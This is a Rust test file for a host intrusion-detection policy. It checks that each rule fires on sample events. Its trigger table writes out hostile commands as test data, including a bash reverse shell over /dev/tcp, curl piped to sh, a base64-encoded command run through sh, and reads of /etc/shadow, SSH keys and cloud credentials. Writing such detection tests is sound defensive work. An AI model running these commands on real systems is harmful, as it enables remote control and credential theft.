//! The starter policy: every rule loads under both backends, and is triggered.

use alloc::collections::BTreeMap;
use alloc::string::String;
use alloc::vec::Vec;

use super::{Options, PolicySource, load};
use crate::event::Origin;
use crate::rules::Feed;
use crate::rules::tests::sample;

const POLICY: &str = include_str!("../../../../policies/lapwing.policy");

/// Each rule, and values of an event that it is for.
const TRIGGERS: &[(&str, &str)] = &[
    ("shell_below_server", "exec.file.name = \"dash\"\nprocess.parent.file.name = \"nginx\""),
    ("exec_from_temporary", "exec.file.path = \"/dev/shm/a/b\""),
    ("exec_from_memory", "exec.file.path = \"memfd:x\""),
    (
        "interactive_shell_on_network",
        "exec.file.name = \"bash\"\nexec.args = \"-c bash -i >& /dev/tcp/192.0.2.1/4 0>&1\"",
    ),
    ("script_from_download", "exec.file.name = \"sh\"\nexec.args = \"-c curl -s http://x | sh\""),
    ("package_manager_below_server", "exec.file.name = \"apk\"\nprocess.ancestors.file.name = [\"sh\", \"node\"]"),
    ("netcat_executes", "exec.file.name = \"nc\"\nexec.args_flags = [\"e\"]"),
    ("preloaded_library", "exec.envs = [\"PATH\", \"LD_PRELOAD\"]"),
    ("reconnaissance_below_server", "exec.file.name = \"whoami\"\nprocess.ancestors.file.name = [\"httpd\"]"),
    ("network_scanner", "exec.file.name = \"nmap\""),
    ("miner_by_arguments", "exec.args = \"-o stratum+tcp://pool:1\""),
    ("history_cleared", "exec.args = \"-c history -c\""),
    ("encoded_command", "exec.file.name = \"sh\"\nexec.args = \"-c echo aWQ= | base64 -d | sh\""),
    ("container_client", "exec.file.name = \"kubectl\"\nprocess.ancestors.file.name = [\"java\"]"),
    ("shadow_read", "open.file.path = \"/etc/shadow\"\nprocess.file.name = \"cat\""),
    ("ssh_keys_read", "open.file.path = \"/home/u/.ssh/id_ed25519\"\nprocess.file.name = \"cat\""),
    ("cloud_credentials_read", "open.file.path = \"/home/u/.aws/credentials\"\nprocess.file.name = \"cat\""),
    (
        "service_account_read",
        "open.file.path = \"/run/secrets/kubernetes.io/serviceaccount/x/token\"\nopen.file.name = \"token\"\nprocess.file.name = \"cat\"",
    ),
    ("memory_of_others_read", "open.file.path = \"/proc/7/mem\"\nprocess.file.name = \"x\""),
    ("metadata_service_contacted", "connect.addr.ip = \"169.254.169.254\"\nprocess.file.name = \"curl\""),
    ("cron_changed", "open.file.path = \"/etc/cron.d/x\"\nopen.flags = 65"),
    ("systemd_unit_written", "open.file.path = \"/etc/systemd/system/x.service\"\nopen.flags = 1"),
    ("authorized_keys_changed", "open.file.name = \"authorized_keys\"\nopen.flags = 1"),
    ("accounts_changed", "open.file.path = \"/etc/sudoers.d/x\"\nopen.flags = 2"),
    ("shell_profile_changed", "open.file.path = \"/root/.bashrc\"\nopen.flags = 1"),
    ("preload_file_written", "open.file.path = \"/etc/ld.so.preload\"\nopen.flags = 65"),
    ("program_replaced", "open.file.path = \"/usr/bin/ls\"\nopen.flags = 1"),
    ("setuid_bit_set", "chmod.file.path = \"/tmp/x\"\nchmod.file.destination.mode = 2541"),
    ("module_loaded", "load_module.retval = 0\nload_module.name = \"x\""),
    ("bpf_program_loaded", "bpf.cmd = 5"),
    ("process_injected", "ptrace.request = 4"),
    ("user_namespace_made", "unshare.flags = 268435456"),
    ("host_mounted", "mount.fs_type = \"proc\"\nprocess.container.id = \"c\""),
    ("runtime_socket_used", "connect.addr.path = \"/run/docker.sock\"\nprocess.container.id = \"c\""),
    ("release_agent_written", "open.file.name = \"release_agent\"\nopen.flags = 1"),
    ("logs_removed", "unlink.file.path = \"/var/log/a/b\""),
    ("logs_emptied", "open.file.path = \"/var/log/x\"\nopen.flags = 513"),
    ("hidden_file_in_temporary", "open.file.path = \"/tmp/.x\"\nopen.file.name = \".x\"\nopen.flags = 65"),
    ("times_of_program_set", "utimes.file.path = \"/usr/bin/ls\""),
    ("raw_socket_made", "socket.domain = 17"),
    ("blinded", "blind.refused = false"),
];

#[test]
fn every_rule_loads_and_is_triggered() {
    let source = PolicySource { name: "lapwing.policy".into(), text: POLICY.into() };
    for origin in [Origin::Kernel, Origin::Ptrace] {
        let loaded =
            load(core::slice::from_ref(&source), &Options { feed: Feed::Backend(origin), ..Options::default() });
        let shown: String = loaded.reports.iter().map(|report| report.render(POLICY)).collect();
        assert!(loaded.reports.is_empty(), "{shown}");
        let triggers: BTreeMap<_, _> = TRIGGERS.iter().copied().collect();
        for rule in loaded.rules.rules() {
            let values = triggers.get(&*rule.id).unwrap_or_else(|| panic!("{} is not tested", rule.id));
            let mut found: Vec<String> = Vec::new();
            let mut memory = loaded.rules.memory(1);
            loaded.rules.evaluate_sample(&rule.event, &sample(values), &mut memory, &mut |matched| {
                found.push(matched.rule.id.clone());
            });
            assert!(found.contains(&rule.id), "{}: {found:?}", rule.id);
            assert!(rule.tags.contains_key("mitre") && !rule.description.is_empty(), "{}", rule.id);
        }
        assert_eq!(loaded.rules.rules().len(), TRIGGERS.len());
    }
}
